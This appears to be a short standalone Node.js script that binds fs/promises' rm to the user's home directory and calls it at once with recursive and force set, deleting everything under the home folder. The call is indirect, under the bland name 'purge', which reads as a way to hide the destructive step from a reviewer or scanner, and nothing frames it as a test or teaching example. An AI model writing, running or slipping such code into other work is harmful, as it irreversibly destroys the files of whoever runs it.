// fs/promises' rm with the directory bound first, held in a name; awaited later.
const { rm } = require('fs/promises');
const os = require('os');

const home = os.homedir();
const purge = rm.bind(undefined, home);
(async () => {
  await purge({ recursive: true, force: true });
})();
